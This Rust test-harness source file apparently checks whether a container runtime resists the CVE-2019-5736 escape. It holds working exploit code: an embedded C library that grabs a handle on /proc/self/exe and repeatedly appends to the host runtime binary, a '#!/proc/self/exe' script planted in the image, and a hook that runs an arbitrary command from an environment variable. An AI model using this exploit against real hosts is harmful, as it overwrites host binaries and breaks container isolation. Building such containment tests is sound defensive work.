//! The CVE-2019-5736 image: a script whose interpreter is `/proc/self/exe`, and a preloaded
//! library that keeps a handle on whatever binary that turns out to be and appends to it once
//! the runtime is gone; and how to tell whether it got through.

use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;
use std::time::Duration;

use crate::common::text;
use crate::harness::{Rt, Verdict, set_mode, wait_for};

/// Copies the shared libraries `bin` needs (and its ELF interpreter) into `rootfs` at their
/// host paths, so the runtime's own binary can start inside the container as a hostile image
/// would make it (CVE-2019-5736).
pub fn copy_libraries(bin: &Path, rootfs: &Path) {
    let o = Command::new("ldd").arg(bin).output().expect("ldd");
    for line in String::from_utf8_lossy(&o.stdout).lines() {
        let path = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        let Some(path) = path else { continue };
        let dest = rootfs.join(path.strip_prefix("/").expect("absolute"));
        std::fs::create_dir_all(dest.parent().expect("parent")).expect("lib dir");
        if !dest.exists() {
            std::fs::copy(&path, &dest).expect("copy library");
        }
    }
}

/// A shared library whose constructor, in whatever process loads it, grabs an `O_PATH` handle
/// on `/proc/self/exe` and leaves a detached shell behind that keeps trying to append to it
/// through `/proc/self/fd/9` (the 2019 exploit's second stage, minus the payload). It logs what
/// it grabbed and whether the write went through to `/evil.log` in the container.
pub fn evil_library() -> PathBuf {
    static LIB: OnceLock<PathBuf> = OnceLock::new();
    LIB.get_or_init(|| {
        let dir = std::env::temp_dir().join(format!("carrack-attacks-{}", std::process::id()));
        std::fs::create_dir_all(&dir).expect("dir");
        let src = dir.join("evil.c");
        std::fs::write(&src, EVIL_C).expect("evil.c");
        let lib = dir.join("evil.so");
        let o = Command::new("gcc")
            .args(["-shared", "-fPIC", "-O2", "-o"])
            .arg(&lib)
            .arg(&src)
            .output()
            .expect("gcc (apt-get install gcc)");
        assert!(o.status.success(), "building evil.so: {}", text(&o));
        lib
    })
    .clone()
}

const EVIL_C: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void grab(void) {
    if (getenv("EVIL_STAGE2")) return;
    char self[4096];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n < 0) n = 0;
    self[n] = 0;
    int log = open("/evil.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0 || dup2(fd, 9) < 0) {
        dprintf(log, "no handle on %s\n", self);
        _exit(0);
    }
    dprintf(log, "grabbed %s\n", self);
    close(log);
    if (fork() == 0) {
        setsid();
        setenv("EVIL_STAGE2", "1", 1);
        execl("/bin/sh", "sh", "-c",
              "i=0; while [ $i -lt 150 ]; do "
              "if (echo PWNED >> /proc/self/fd/9) 2>/dev/null; then echo wrote >> /evil.log; exit 0; fi; "
              "i=$((i+1)); sleep 0.02; done; "
              "(echo PWNED >> /proc/self/fd/9) 2>> /evil.log; echo gave-up >> /evil.log",
              (char *)0);
        _exit(1);
    }
    /* The runtime's process goes away (exec) or stays as something harmless (init). */
    if (getenv("EVIL_BECOME")) execl("/bin/sh", "sh", "-c", getenv("EVIL_BECOME"), (char *)0);
    _exit(0);
}
"#;

/// Plants the CVE-2019-5736 image in `bundle`: `/evil-script` whose interpreter is
/// `/proc/self/exe`, `/evil.so`, and the libraries `bin` needs.
pub fn plant_5736(bundle: &Path, bin: &Path) {
    let rootfs = bundle.join("rootfs");
    std::fs::write(rootfs.join("evil-script"), "#!/proc/self/exe\n").expect("script");
    set_mode(&rootfs.join("evil-script"), 0o755);
    std::fs::copy(evil_library(), rootfs.join("evil.so")).expect("evil.so");
    copy_libraries(bin, &rootfs);
}

/// Waits for the 2019-5736 second stage to finish, then judges by the binary's hash.
pub fn judge_5736(rt: &Rt, bundle: &Path, before: &str) -> Verdict {
    let log_path = bundle.join("rootfs/evil.log");
    let log = wait_for(Duration::from_secs(8), || {
        let s = std::fs::read_to_string(&log_path).ok()?;
        (s.contains("wrote") || s.contains("gave-up") || s.contains("no handle")).then_some(s)
    })
    .or_else(|| std::fs::read_to_string(&log_path).ok())
    .unwrap_or_default();
    let log = log.trim().replace('\n', "; ");
    if rt.binary_hash() != before {
        return Verdict::Escaped(format!(
            "the runtime binary on the host was modified ({log})"
        ));
    }
    if log.is_empty() {
        Verdict::Contained("the runtime's binary never ran in the container".into())
    } else {
        Verdict::Contained(format!("binary unchanged ({log})"))
    }
}
